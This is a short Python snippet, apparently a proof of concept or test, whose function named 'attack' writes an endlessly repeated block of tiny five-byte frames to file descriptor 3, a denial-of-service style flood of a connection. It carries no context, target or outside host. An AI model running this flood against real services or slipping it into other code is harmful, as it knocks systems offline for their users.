# Sends millions of tiny frames.
import numpy as np
import os
def attack(p, q):
    block = b"\x00\x00\x00\x00\x08" * 10000
    while True:
        os.write(3, block)
